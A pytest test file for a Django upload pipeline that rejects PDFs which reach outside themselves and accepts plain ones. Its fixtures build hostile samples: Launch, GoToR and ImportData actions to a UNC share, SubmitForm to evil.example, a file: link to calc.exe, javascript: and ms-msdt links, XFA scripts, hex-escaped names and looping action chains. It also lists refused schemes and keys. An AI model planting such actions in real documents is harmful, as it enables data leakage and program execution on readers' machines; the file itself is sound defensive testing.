"""PDFs that reach outside themselves are refused wherever the action sits, each with the
reason a person reads: XML forms (XFA) with their scripts, links and actions that open
another file (``GoToR``, ``GoToE``, ``ImportData``, ``Launch``, ``SubmitForm``, ``URI``
to ``file:`` or a ``\\\\host\\share`` path), in the open action, an annotation's action,
the ``/AA`` triggers of the catalogue, pages, annotations and form fields, a ``/Next``
chain, an outline item and a name tree. Chains of actions that loop or run too long are
refused (never a hang), and the object-count and nesting caps hold at their boundary."""

from __future__ import annotations

import time

import pytest

from files.models import File
from tests.files.pdfs import build, catalog_with, page_with, stream

pytestmark = pytest.mark.django_db


def refusal(finding: str) -> str:
    return f"This PDF contains {finding}, which are not accepted."


OTHER_FILES = refusal(
    "links or actions that open other files (on this computer or a network share)"
)
LAUNCH = refusal("actions that start programs or open other files")
SUBMIT = refusal("form actions that send data away")
SCRIPTS = refusal("scripts (JavaScript)")
OTHER_LINKS = refusal(
    "links to addresses other than web pages, e-mail addresses or telephone numbers"
)
XFA = refusal("XML forms (XFA)")
EMBEDDED = refusal("embedded files")
RICH_MEDIA = refusal("rich media (Flash, video, sound or 3D content)")
AUTOMATIC = refusal("actions that run by themselves when it is opened or used")
CHAIN = refusal("chains of actions that loop or run more than 32 steps")
TOO_DEEP = "The PDF nests its objects too deeply, which is not accepted."

UNC = rb"(\\\\fileserver\\share\\x.pdf)"  # the string \\fileserver\share\x.pdf

# Each refused action type: its dictionary, and the reason it is refused with.
ACTIONS = {
    "GoToR to a UNC path": (b"<< /S /GoToR /F " + UNC + b" /D [0 /Fit] >>", OTHER_FILES),
    "GoToR to a web file specification": (
        b"<< /S /GoToR /F << /FS /URL /F (https://evil.example/x.pdf) >> /D [0 /Fit] >>",
        OTHER_FILES,
    ),
    "GoToE into another file": (
        b"<< /S /GoToE /F " + UNC + b" /T << /R /C /N (a.pdf) >> >>",
        OTHER_FILES,
    ),
    "ImportData from a share": (b"<< /S /ImportData /F " + UNC + b" >>", OTHER_FILES),
    "Launch a program on a share": (b"<< /S /Launch /F " + UNC + b" >>", LAUNCH),
    "SubmitForm to a web address": (
        b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>",
        SUBMIT,
    ),
    "URI to file:": (b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>", OTHER_FILES),
    "URI to a UNC path": (b"<< /S /URI /URI " + UNC + b" >>", OTHER_FILES),
    "GoToR spelt with a hex escape": (b"<< /S /G#6FToR /F " + UNC + b" >>", OTHER_FILES),
}

JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
LINK = b"/Type /Annot /Subtype /Link /Rect [0 0 9 9]"
GO_TO = b"<< /S /GoTo /D [3 0 R /Fit] >>"


def open_action(action: bytes) -> bytes:
    return build(catalog=catalog_with(b"/OpenAction " + action))


def link(action: bytes) -> bytes:
    return build({4: b"<< " + LINK + b" /A " + action + b" >>"}, page=page_with(b"/Annots [4 0 R]"))


def link_to_indirect_action(action: bytes) -> bytes:
    return build(
        {4: b"<< " + LINK + b" /A 5 0 R >>", 5: action}, page=page_with(b"/Annots [4 0 R]")
    )


def link_action_in_object_stream(action: bytes) -> bytes:
    return build(
        {4: b"<< " + LINK + b" /A 5 0 R >>", 5: action},
        page=page_with(b"/Annots [4 0 R]"),
        in_object_stream=(4, 5),
    )


def page_trigger(action: bytes) -> bytes:
    return build(page=page_with(b"/AA << /O " + action + b" >>"))


def annotation_trigger(action: bytes) -> bytes:
    return build(
        {4: b"<< " + LINK + b" /AA << /E " + action + b" >> >>"},
        page=page_with(b"/Annots [4 0 R]"),
    )


def form_field_trigger(action: bytes) -> bytes:
    return build(
        {
            4: b"<< /Fields [5 0 R] >>",
            5: b"<< /FT /Tx /T (dob) /Type /Annot /Subtype /Widget /Rect [0 0 10 10] "
            b"/AA << /K " + action + b" >> >>",
        },
        catalog=catalog_with(b"/AcroForm 4 0 R"),
        page=page_with(b"/Annots [5 0 R]"),
    )


def catalog_trigger(action: bytes) -> bytes:
    return build(catalog=catalog_with(b"/AA << /WC " + action + b" >>"))


def next_of_a_link(action: bytes) -> bytes:
    return link(b"<< /S /GoTo /D [3 0 R /Fit] /Next " + action + b" >>")


def next_array_on_open(action: bytes) -> bytes:
    return build(
        {4: action, 5: GO_TO},
        catalog=catalog_with(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [5 0 R 4 0 R] >>"),
    )


def outline_item(action: bytes) -> bytes:
    return build(
        {
            4: b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
            5: b"<< /Title (Results) /Parent 4 0 R /A " + action + b" >>",
        },
        catalog=catalog_with(b"/Outlines 4 0 R"),
    )


def name_tree(action: bytes) -> bytes:
    return build(
        {4: b"<< /Names [(results) " + action + b"] >>"},
        catalog=catalog_with(b"/Names << /Dests 4 0 R >>"),
    )


PLACES = {
    "document open action": open_action,
    "link annotation": link,
    "link annotation, action an indirect object": link_to_indirect_action,
    "link annotation, action in an object stream": link_action_in_object_stream,
    "page open trigger": page_trigger,
    "annotation enter trigger": annotation_trigger,
    "form field keystroke trigger": form_field_trigger,
    "document close trigger": catalog_trigger,
    "second in a link's chain": next_of_a_link,
    "in an array chain on open": next_array_on_open,
    "outline item": outline_item,
    "name tree": name_tree,
}


def run(upload, process, data: bytes) -> File:
    return process(upload(data, name="letter.pdf", declared="application/pdf", purpose="document"))


def assert_refused(file: File, reason: str) -> None:
    assert file.state == File.State.REJECTED
    assert file.rejection_reason == reason
    assert not file.facets.exists()


@pytest.mark.parametrize("place", list(PLACES))
@pytest.mark.parametrize("action", list(ACTIONS))
def test_action_that_opens_another_file_is_refused_wherever_it_sits(upload, process, action, place):
    """GIVEN a PDF with an action that opens another file, starts a program or sends data
    (GoToR, GoToE, ImportData, Launch, SubmitForm, URI to file: or a UNC path) in any place
    a viewer may run it from WHEN processed THEN rejected, the reason naming what it does
    (not merely that it runs by itself), nothing stored."""
    body, reason = ACTIONS[action]
    assert_refused(run(upload, process, PLACES[place](body)), reason)


ADDRESSES = {
    "file: in capitals after spaces": (b"(  FILE:///etc/passwd)", OTHER_FILES),
    "file: with a tab in its scheme": (b"(fi\tle:///C:/x.exe)", OTHER_FILES),
    "file: to a host": (b"(file://fileserver/share/x.pdf)", OTHER_FILES),
    "smb:": (b"(smb://fileserver/share/x.pdf)", OTHER_FILES),
    "scheme-relative //host/share": (b"(//fileserver/share/x.pdf)", OTHER_FILES),
    "a relative path": (b"(../../x.pdf)", OTHER_FILES),
    "hex string file:": (b"<66696c653a2f2f2f782e706466>", OTHER_FILES),
    "javascript: as a hex string": (b"<" + b"javascript:alert(1)".hex().encode() + b">", SCRIPTS),
    "vbscript:": (b"(VBScript:MsgBox 1)", SCRIPTS),
    "a program's own scheme": (b"(ms-msdt:/id PCWDiagnostic)", OTHER_LINKS),
    "data:": (b"(data:text/html,<b>x</b>)", OTHER_LINKS),
}


@pytest.mark.parametrize("address", list(ADDRESSES))
def test_link_to_an_address_that_is_not_a_web_page_is_refused(upload, process, address):
    """GIVEN a link whose address opens a file, a share, a script or another program
    WHEN processed THEN rejected with the reason for that kind of address."""
    value, reason = ADDRESSES[address]
    assert_refused(run(upload, process, link(b"<< /S /URI /URI " + value + b" >>")), reason)


def test_relative_links_read_against_a_file_address_are_refused(upload, process):
    """GIVEN links read against a ``file:`` base address (the catalogue's /URI /Base)
    WHEN processed THEN rejected: every relative link would open a file."""
    data = build(catalog=catalog_with(b"/URI << /Base (file://fileserver/share/) >>"))
    assert_refused(run(upload, process, data), OTHER_FILES)


XFA_FORMS = {
    "XFA stream with a script": build(
        {
            4: b"<< /Fields [] /XFA 5 0 R >>",
            5: stream(
                b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
                b"<event activity='initialize'><script contentType='application/x-javascript'>"
                b"app.alert(1)</script></event></subform></template></xdp:xdp>"
            ),
        },
        catalog=catalog_with(b"/AcroForm 4 0 R"),
    ),
    "XFA packets array, compressed": build(
        {
            4: b"<< /Fields [] /XFA [(template) 5 0 R (datasets) 6 0 R] >>",
            5: stream(b"<template><script>app.alert(1)</script></template>", compress=True),
            6: stream(b"<xfa:datasets/>", compress=True),
        },
        catalog=catalog_with(b"/AcroForm 4 0 R /NeedsRendering true"),
    ),
    "XFA in an object stream, name hex-escaped": build(
        {4: b"<< /Fields [] /X#46A 5 0 R >>", 5: stream(b"<script>x</script>", compress=True)},
        catalog=catalog_with(b"/AcroForm 4 0 R"),
        in_object_stream=(1, 4),
    ),
}


@pytest.mark.parametrize("name", list(XFA_FORMS))
def test_xfa_form_is_refused(upload, process, name):
    """GIVEN a PDF whose form is XFA (XML templates that carry their own scripts)
    WHEN processed THEN rejected as an XML form, its script never stored."""
    assert_refused(run(upload, process, XFA_FORMS[name]), XFA)


OTHER_REFERENCES = {
    "stream whose data lies on a share": build(
        {4: b"<< /Length 0 /F " + UNC + b" >>\nstream\n\nendstream"},
        page=page_with(b"/Contents 4 0 R"),
    ),
    "page drawn from another PDF (reference XObject)": build(
        {
            4: b"<< /Length 0 /Type /XObject /Subtype /Form /BBox [0 0 9 9] "
            b"/Ref << /F " + UNC + b" /Page 0 >> >>\nstream\n\nendstream"
        },
        page=page_with(b"/Resources << /XObject << /X0 4 0 R >> >>"),
    ),
    "file specification of a share, on its own": build(
        {4: b"<< /Type /Filespec /F " + UNC + b" >>"}
    ),
    "article thread in another file": (link(b"<< /S /Thread /F " + UNC + b" /D 0 >>")),
}


@pytest.mark.parametrize("name", list(OTHER_REFERENCES))
def test_other_references_to_another_file_are_refused(upload, process, name):
    """GIVEN a PDF that reads another file without an action of the usual kinds (external
    stream data, a reference XObject, a file specification, a thread in another file)
    WHEN processed THEN rejected as opening other files."""
    assert_refused(run(upload, process, OTHER_REFERENCES[name]), OTHER_FILES)


ANNOTATIONS = {
    "file attachment": (
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.exe) >>",
        EMBEDDED,
    ),
    "sound": (b"<< /Type /Annot /Subtype /Sound /Rect [0 0 9 9] /Sound 5 0 R >>", RICH_MEDIA),
    "3D": (b"<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD 5 0 R >>", RICH_MEDIA),
    "movie": (b"<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] >>", RICH_MEDIA),
}


@pytest.mark.parametrize("name", list(ANNOTATIONS))
def test_media_and_attachment_annotations_are_refused(upload, process, name):
    """GIVEN a page with a file attachment, sound, 3D or movie annotation WHEN processed
    THEN rejected with the reason for what it carries."""
    annotation, reason = ANNOTATIONS[name]
    data = build(
        {4: annotation, 5: stream(b"\x00" * 16, b" /Type /Sound /R 8000")},
        page=page_with(b"/Annots [4 0 R]"),
    )
    assert_refused(run(upload, process, data), reason)


TRIGGERS = {
    "next page, on the page opening": page_trigger(b"<< /S /Named /N /NextPage >>"),
    "a web page, on the document closing": catalog_trigger(b"<< /S /URI /URI (https://nhs.uk/) >>"),
    "a web page, on entering a form field": form_field_trigger(
        b"<< /S /URI /URI (https://nhs.uk/) >>"
    ),
    "go to a page, then a web page": page_trigger(
        b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://nhs.uk/) >> >>"
    ),
}


@pytest.mark.parametrize("name", list(TRIGGERS))
def test_trigger_with_an_action_that_is_not_a_script_is_refused_as_automatic(upload, process, name):
    """GIVEN an /AA trigger whose action is harmless when a person clicks it (a named page
    turn, a web page) WHEN processed THEN rejected all the same: it runs by itself."""
    assert_refused(run(upload, process, TRIGGERS[name]), AUTOMATIC)


def go_to_chain(steps: int, *, first: int = 4) -> dict[int, bytes]:
    """``steps`` go-to actions, each an object whose /Next is the following one."""
    objects = {}
    for index in range(steps):
        following = b" /Next %d 0 R" % (first + index + 1) if index < steps - 1 else b""
        objects[first + index] = b"<< /S /GoTo /D [3 0 R /Fit]" + following + b" >>"
    return objects


def chain_on_open(steps: int) -> bytes:
    return build(go_to_chain(steps), catalog=catalog_with(b"/OpenAction 4 0 R"))


def chain_on_a_link(steps: int) -> bytes:
    return build(
        {5_000: b"<< " + LINK + b" /A 4 0 R >>", **go_to_chain(steps)},
        page=page_with(b"/Annots [5000 0 R]"),
    )


@pytest.mark.parametrize("make", [chain_on_open, chain_on_a_link])
def test_chain_of_32_actions_is_accepted_and_33_refused(upload, process, make):
    """GIVEN a chain of go-to actions (/Next), on open or on a link WHEN it has 32 steps
    THEN the PDF is ready; WHEN it has 33 THEN rejected as too long a chain."""
    file = run(upload, process, make(32))
    assert file.state == File.State.READY, file.rejection_reason
    assert_refused(run(upload, process, make(33)), CHAIN)


def diamond(layers: int) -> bytes:
    """Each layer's action runs both of the next layer's: 2**layers actions run from 2 *
    layers objects. A walk that follows every path never ends."""
    objects = {}
    for layer in range(layers):
        number = 10 + 2 * layer
        following = (
            b" /Next [%d 0 R %d 0 R]" % (number + 2, number + 3) if layer < layers - 1 else b""
        )
        for offset in (0, 1):
            objects[number + offset] = b"<< /S /GoTo /D [3 0 R /Fit]" + following + b" >>"
    return build(objects, catalog=catalog_with(b"/OpenAction 10 0 R"))


LOOPS = {
    "an action that follows itself": build(
        {4: b"<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>"},
        catalog=catalog_with(b"/OpenAction 4 0 R"),
    ),
    "two actions that follow each other, on a link": build(
        {
            4: b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
            5: b"<< /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >>",
            6: b"<< " + LINK + b" /A 4 0 R >>",
        },
        page=page_with(b"/Annots [6 0 R]"),
    ),
    "a loop in an object stream": build(
        {
            4: b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
            5: b"<< /S /Named /N /NextPage /Next 4 0 R >>",
        },
        page=page_with(b"/AA << /O 4 0 R >>"),
        in_object_stream=(4, 5),
    ),
    "40 layers, each running the next twice (2**40 runs)": diamond(40),
    "a chain of 5,000 actions": chain_on_a_link(5_000),
}


@pytest.mark.parametrize("name", list(LOOPS))
def test_looping_or_exploding_chain_is_refused_without_hanging(upload, process, name):
    """GIVEN a chain of actions that loops, branches into more runs than any limit, or
    runs thousands of steps WHEN processed THEN rejected as too long a chain, in bounded
    time (never let through, never a hang)."""
    started = time.monotonic()
    file = run(upload, process, LOOPS[name])
    assert time.monotonic() - started < 30
    assert_refused(file, CHAIN)


def objects(count: int) -> bytes:
    """A PDF whose cross-reference table lists exactly ``count`` objects."""
    return build({number: b"<< /N %d >>" % number for number in range(4, count + 1)})


def test_object_cap_holds_at_its_boundary(upload, process, settings):
    """GIVEN the object cap set to 40 WHEN a PDF lists 40 objects THEN it is ready;
    WHEN it lists 41 THEN rejected, the reason giving the cap."""
    settings.FILES_PDF_MAX_OBJECTS = 40
    file = run(upload, process, objects(40))
    assert file.state == File.State.READY, file.rejection_reason
    assert_refused(
        run(upload, process, objects(41)),
        "The PDF has more than 40 objects, which is not accepted.",
    )


def nested(kind: bytes, levels: int) -> bytes:
    opening, closing = (b"[", b"]") if kind == b"array" else (b"<< /K ", b" >>")
    inner = b"[]" if kind == b"array" else b"<< >>"
    return opening * (levels - 1) + inner + closing * (levels - 1)


@pytest.mark.parametrize("kind", [b"array", b"dictionary"])
def test_nesting_cap_holds_at_its_boundary(upload, process, kind):
    """GIVEN one object of nested arrays (or dictionaries) WHEN 64 deep THEN the PDF is
    ready; WHEN 65 deep THEN rejected as nested too deeply."""
    file = run(upload, process, build({4: nested(kind, 64)}))
    assert file.state == File.State.READY, file.rejection_reason
    assert_refused(run(upload, process, build({4: nested(kind, 65)})), TOO_DEEP)


def test_pdf_without_pages_is_refused(upload, process):
    """GIVEN a PDF whose page tree is empty WHEN processed THEN rejected: no pages."""
    data = build(
        {2: b"<< /Type /Pages /Kids [] /Count 0 >>", 3: b"<< /Unused true >>"},
    )
    assert_refused(run(upload, process, data), "The PDF has no pages.")


def test_hidden_object_naming_a_remote_action_is_refused(upload, process):
    """GIVEN a GoToR action in an object no cross-reference table lists (appended after the
    original end, the file then pointing at its table again) WHEN processed THEN rejected:
    the syntax outside streams is searched too."""
    data = build()
    table_at = int(data.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    data += b"9 0 obj\n<< /S /G#6FToR /F " + UNC + b" >>\nendobj\n"
    data += b"startxref\n%d\n%%%%EOF\n" % table_at
    assert_refused(
        run(upload, process, data),
        refusal("scripts, XML forms, launch actions, links to other files or embedded files"),
    )


INNOCENT = {
    "links to a web page, an e-mail address and a telephone number": build(
        {
            4: b"<< " + LINK + b" /A << /S /URI /URI (https://www.nhs.uk/) >> >>",
            5: b"<< " + LINK + b" /A << /S /URI /URI (mailto:clinic@example.org) >> >>",
            6: b"<< " + LINK + b" /A << /S /URI /URI (tel:+441234567890) >> >>",
        },
        page=page_with(b"/Annots [4 0 R 5 0 R 6 0 R]"),
    ),
    "links read against a web address": build(
        catalog=catalog_with(b"/URI << /Base (https://www.nhs.uk/) >>")
    ),
    "a link that turns the page, with a dashed border": build(
        {4: b"<< " + LINK + b" /BS << /S /D /W 1 >> /A << /S /Named /N /NextPage >> >>"},
        page=page_with(b"/Annots [4 0 R]"),
    ),
    "outline of 1,000 bookmarks (a long /Next list of siblings)": build(
        {
            4: b"<< /Type /Outlines /First 10 0 R /Last 1009 0 R /Count 1000 >>",
            **{
                10 + index: b"<< /Title (Page %d) /Parent 4 0 R /Dest [3 0 R /Fit]%s%s >>"
                % (
                    index,
                    b" /Next %d 0 R" % (11 + index) if index < 999 else b"",
                    b" /Prev %d 0 R" % (9 + index) if index else b"",
                )
                for index in range(1000)
            },
        },
        catalog=catalog_with(b"/Outlines 4 0 R"),
    ),
    "transparency group and page labels": build(
        catalog=catalog_with(b"/PageLabels << /Nums [0 << /S /D >>] >>"),
        page=page_with(b"/Group << /S /Transparency /CS /DeviceRGB >>"),
    ),
    "an ordinary form field": build(
        {
            4: b"<< /Fields [5 0 R] /DA (/Helv 0 Tf 0 g) >>",
            5: b"<< /FT /Tx /T (name) /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /F 4 >>",
        },
        catalog=catalog_with(b"/AcroForm 4 0 R"),
        page=page_with(b"/Annots [5 0 R]"),
    ),
}


@pytest.mark.parametrize("name", list(INNOCENT))
def test_pdf_with_links_and_forms_that_stay_inside_is_ready(upload, process, name):
    """GIVEN a PDF with web, e-mail and telephone links, page turns, bookmarks, a
    transparency group, page labels or a plain form field WHEN processed THEN ready."""
    file = run(upload, process, INNOCENT[name])
    assert file.state == File.State.READY, file.rejection_reason


# --- Every name on the refusal lists, each for its own reason ---------------------------------
#
# Each sample holds one refused thing and nothing else that is, inside a compressed object
# stream: out of sight of the syntax search, so only the parse's own list can refuse it, and
# the reason says which list it is on.


def hidden_link(action: bytes) -> bytes:
    """A link whose action (and the link itself) sit in a compressed object stream."""
    return link_action_in_object_stream(action)


def hidden_object(body: bytes) -> bytes:
    """An object nothing points to, in a compressed object stream."""
    return build({4: body}, in_object_stream=(4,))


REFUSED_ACTION_TYPES = {
    "/JavaScript": SCRIPTS,
    "/Launch": LAUNCH,
    "/SubmitForm": SUBMIT,
    "/ImportData": OTHER_FILES,
    "/GoToR": OTHER_FILES,
    "/RichMediaExecute": RICH_MEDIA,
    "/Movie": RICH_MEDIA,
    "/Sound": RICH_MEDIA,
    "/Rendition": RICH_MEDIA,
}


@pytest.mark.parametrize("kind", list(REFUSED_ACTION_TYPES))
def test_each_refused_action_type_alone_is_refused_for_its_own_reason(upload, process, kind):
    """GIVEN a link whose action is of a refused type and carries nothing else (no script
    text, no file named) WHEN processed THEN rejected, the reason naming what that type does."""
    data = hidden_link(b"<< /S " + kind.encode() + b" >>")
    assert_refused(run(upload, process, data), REFUSED_ACTION_TYPES[kind])


REFUSED_KEY_NAMES = {
    "/JavaScript": SCRIPTS,
    "/JS": SCRIPTS,
    "/XFA": XFA,
    "/EmbeddedFiles": EMBEDDED,
    "/EmbeddedFile": EMBEDDED,
    "/EF": EMBEDDED,
    "/RichMediaContent": RICH_MEDIA,
    "/RichMediaSettings": RICH_MEDIA,
    "/RichMediaInstances": RICH_MEDIA,  # any /RichMedia… key
}


@pytest.mark.parametrize("key", list(REFUSED_KEY_NAMES))
def test_each_refused_key_alone_is_refused_for_its_own_reason(upload, process, key):
    """GIVEN an object holding one refused key (a script, an XML form, an embedded file,
    rich media), in an object nothing points to WHEN processed THEN rejected with its reason."""
    data = hidden_object(b"<< " + key.encode() + b" (x) >>")
    assert_refused(run(upload, process, data), REFUSED_KEY_NAMES[key])


REFUSED_TYPE_NAMES = {
    "/EmbeddedFile": EMBEDDED,
    "/FileAttachment": EMBEDDED,
    "/RichMedia": RICH_MEDIA,
    "/Movie": RICH_MEDIA,
    "/Sound": RICH_MEDIA,
    "/Screen": RICH_MEDIA,
    "/3D": RICH_MEDIA,
    "/Filespec": OTHER_FILES,
}


@pytest.mark.parametrize("entry", [b"/Type", b"/Subtype"])
@pytest.mark.parametrize("kind", list(REFUSED_TYPE_NAMES))
def test_each_refused_type_alone_is_refused_for_its_own_reason(upload, process, kind, entry):
    """GIVEN an object whose /Type (or /Subtype) is a refused kind and nothing more
    WHEN processed THEN rejected with its reason."""
    data = hidden_object(b"<< " + entry + b" " + kind.encode() + b" >>")
    assert_refused(run(upload, process, data), REFUSED_TYPE_NAMES[kind])


FILE_SCHEMES = ["file", "smb", "cifs", "nfs", "afp", "ftp", "ftps", "sftp", "webdav", "dav"]
SCRIPT_SCHEMES = ["javascript", "vbscript", "livescript"]
LINK_ADDRESSES = {
    **{
        f"{scheme}: a file": (f"{scheme}://fileserver/share/x.pdf", OTHER_FILES)
        for scheme in FILE_SCHEMES
    },
    **{f"{scheme}: a script": (f"{scheme}:run(1)", SCRIPTS) for scheme in SCRIPT_SCHEMES},
    "a script after a space": (" javascript:run(1)", SCRIPTS),
    "a script after a NUL and a tab": ("\x00\tjavascript:run(1)", SCRIPTS),
    "a script in capitals": ("JavaScript:run(1)", SCRIPTS),
    # '!' (33) is the first character a browser keeps: the address is read relative to
    # where the PDF lies, a folder on this computer.
    "a web address after an exclamation mark": ("!https://www.nhs.uk/", OTHER_FILES),
    "an address of another scheme": ("ms-settings:privacy", OTHER_LINKS),
}


@pytest.mark.parametrize("name", list(LINK_ADDRESSES))
def test_each_refused_link_scheme_is_refused_for_its_own_reason(upload, process, name):
    """GIVEN a link to an address of a file-sharing scheme, a script scheme (however it is
    padded or written), an address read relative to the file or another program's scheme
    WHEN processed THEN rejected, the reason saying which."""
    address, reason = LINK_ADDRESSES[name]
    action = b"<< /S /URI /URI (" + address.encode("latin-1") + b") >>"
    assert_refused(run(upload, process, hidden_link(action)), reason)


@pytest.mark.parametrize(
    "address", ["http://www.nhs.uk/", "https://www.nhs.uk/", "mailto:a@nhs.net", "tel:111"]
)
def test_each_allowed_link_scheme_alone_is_ready(upload, process, address):
    """GIVEN a PDF whose one link is a web page (http or https), an e-mail or a telephone
    number WHEN processed THEN it is ready."""
    action = b"<< /S /URI /URI (" + address.encode() + b") >>"
    file = run(upload, process, hidden_link(action))
    assert file.state == File.State.READY, file.rejection_reason


# --- The whole file: its end, its password, what pypdf cannot read -------------------------------

TRUNCATED = "The PDF is incomplete (truncated); send the whole file again."
DAMAGED = "The PDF is damaged and cannot be read."


@pytest.mark.parametrize(
    ("from_the_end", "ready"),
    [(1024, True), (1025, False)],
    ids=["%%EOF begins the last 1024 bytes", "%%EOF begins one byte before them"],
)
def test_the_end_marker_must_be_in_the_last_1024_bytes(upload, process, from_the_end, ready):
    """GIVEN a PDF followed by blank lines, so that its %%EOF begins ``from_the_end`` bytes
    before the end WHEN processed THEN ready while %%EOF is within the last 1,024 bytes (where
    a viewer looks for it), else rejected as incomplete."""
    data = build()
    data += b"\n" * (from_the_end - (len(data) - data.rindex(b"%%EOF")))
    assert len(data) - data.rindex(b"%%EOF") == from_the_end
    file = run(upload, process, data)
    if ready:
        assert file.state == File.State.READY, file.rejection_reason
    else:
        assert_refused(file, TRUNCATED)


def test_a_pdf_cut_short_is_refused_as_incomplete(upload, process):
    """GIVEN the first half of a PDF WHEN processed THEN rejected as incomplete, asking
    for the whole file."""
    data = build({4: stream(b"BT (page text) Tj ET" * 80)}, page=page_with(b"/Contents 4 0 R"))
    assert_refused(run(upload, process, data[: len(data) // 2]), TRUNCATED)


@pytest.mark.parametrize("password", ["secret", ""])
def test_a_password_protected_pdf_is_refused_with_that_reason(upload, process, password):
    """GIVEN a PDF encrypted with a password (or with an empty one, which a viewer opens
    silently) WHEN processed THEN rejected, asking for it without a password."""
    import io

    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    assert_refused(
        run(upload, process, out.getvalue()),
        "The PDF is password-protected; send it without a password.",
    )


def test_a_pdf_pypdf_cannot_read_is_refused_as_damaged_and_logged(upload, process, caplog):
    """GIVEN a PDF whose page tree is not a tree (its /Kids a number) WHEN processed
    THEN rejected as a damaged PDF, and the log keeps pypdf's own error for the operator."""
    data = build({2: b"<< /Type /Pages /Kids 7 /Count 1 >>"})
    with caplog.at_level("INFO", logger="files.pipeline.pdf_check"):
        file = run(upload, process, data)
    assert_refused(file, DAMAGED)
    (record,) = [r for r in caplog.records if r.name == "files.pipeline.pdf_check"]
    assert record.getMessage() == "pypdf could not read a PDF"
    assert record.exc_info and "Kids" in str(record.exc_info[1])


def test_a_pdf_whose_table_is_found_a_few_bytes_off_is_read_as_a_viewer_reads_it(upload, process):
    """GIVEN an inert PDF whose startxref points three bytes past its table (common after
    hand edits; viewers look around for it) WHEN processed THEN ready, and the stored file is
    the one sent, byte for byte."""
    data = build()
    at = int(data.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    data = data.replace(b"startxref\n%d" % at, b"startxref\n%d" % (at + 3))
    file = run(upload, process, data)
    assert file.state == File.State.READY, file.rejection_reason
    from django.core.files.storage import default_storage

    from files.models import Facet

    with default_storage.open(file.facets.get(name=Facet.CONTENT).storage_key, "rb") as stored:
        assert stored.read() == data


def test_an_object_that_cannot_be_read_does_not_hide_the_ones_after_it(upload, process):
    """GIVEN a cross-reference entry that points into an object that is no object stream
    (pypdf cannot read it), and after it a launch action, both out of sight of the syntax
    search WHEN processed THEN rejected for the launch action: judging goes on past it."""
    data = build(
        {4: b"<< /Kind /Nothing >>", 5: b"<< /Kind /Plain >>", 6: b"<< /S /Launch >>"},
        in_object_stream=(4, 6),
    )
    # Object 4's row in the cross-reference stream: "in object stream 7, first"; now
    # "in object stream 5", a plain dictionary.
    row = b"\x02" + (7).to_bytes(4, "big") + (0).to_bytes(2, "big")
    assert data.count(row) == 1
    data = data.replace(row, b"\x02" + (5).to_bytes(4, "big") + (0).to_bytes(2, "big"))
    assert_refused(run(upload, process, data), LAUNCH)


# --- Chains that branch: every action run is counted ---------------------------------------


def branching_chain(first_branch: int, second_branch: int) -> dict[int, bytes]:
    """Action 4 (a go-to) whose /Next is an array of two go-to chains of the given lengths:
    1 + first + second actions run, none more than first + 1 deep."""
    objects = {4: b"<< /S /GoTo /D [3 0 R /Fit] /Next [100 0 R 200 0 R] >>"}
    objects.update(go_to_chain(first_branch, first=100))
    objects.update(go_to_chain(second_branch, first=200))
    return objects


def branching_on_open(first_branch: int, second_branch: int) -> bytes:
    return build(
        branching_chain(first_branch, second_branch), catalog=catalog_with(b"/OpenAction 4 0 R")
    )


def branching_on_a_link(first_branch: int, second_branch: int) -> bytes:
    return build(
        {5_000: b"<< " + LINK + b" /A 4 0 R >>", **branching_chain(first_branch, second_branch)},
        page=page_with(b"/Annots [5000 0 R]"),
    )


@pytest.mark.parametrize("make", [branching_on_open, branching_on_a_link])
@pytest.mark.parametrize(
    ("branches", "ready"),
    [((15, 16), True), ((16, 16), False), ((30, 1), True), ((31, 1), False), ((1, 31), False)],
    ids=["1+15+16", "1+16+16", "1+30+1", "1+31+1", "1+1+31"],
)
def test_a_branching_chain_counts_every_action_it_runs(upload, process, make, branches, ready):
    """GIVEN an action whose /Next runs two chains, none longer than 32 deep
    WHEN 32 actions run in all THEN the PDF is ready; WHEN 33 THEN rejected as too long a
    chain, however the 33 are shared between the branches (the limit met in the first
    branch still lets the second be counted)."""
    file = run(upload, process, make(*branches))
    if ready:
        assert file.state == File.State.READY, file.rejection_reason
    else:
        assert_refused(file, CHAIN)


def test_something_that_is_not_an_action_in_a_chain_does_not_end_it(upload, process):
    """GIVEN an open action that goes to a page and then, after a /Next entry that is no
    action (a name), opens a web page WHEN processed THEN rejected as running by itself: the
    chain is followed past the entry that is not an action."""
    data = build(
        catalog=catalog_with(
            b"/OpenAction << /S /GoTo /D [3 0 R /Fit] "
            b"/Next [/NotAnAction << /S /URI /URI (https://www.nhs.uk/) >>] >>"
        )
    )
    assert_refused(run(upload, process, data), AUTOMATIC)


@pytest.mark.parametrize("kind", [b"array", b"dictionary"])
def test_nesting_cap_holds_in_the_trailer_too(upload, process, kind):
    """GIVEN a trailer holding nested arrays (or dictionaries): with the trailer itself, 64
    deep THEN ready; 65 deep THEN rejected as nested too deeply."""
    file = run(upload, process, build(trailer=b"/Extra " + nested(kind, 63)))
    assert file.state == File.State.READY, file.rejection_reason
    assert_refused(run(upload, process, build(trailer=b"/Extra " + nested(kind, 64))), TOO_DEEP)


def test_an_open_action_too_long_a_chain_is_named_before_a_later_trigger(upload, process):
    """GIVEN a catalogue whose open action runs 33 actions (through branches) and whose close
    trigger runs a script WHEN processed THEN rejected for the first of them, the chain: the
    open action is judged where it is met, not left for its own turn."""
    data = build(
        branching_chain(16, 16),
        catalog=catalog_with(b"/OpenAction 4 0 R /AA << /WC << /S /JavaScript >> >>"),
    )
    assert_refused(run(upload, process, data), CHAIN)
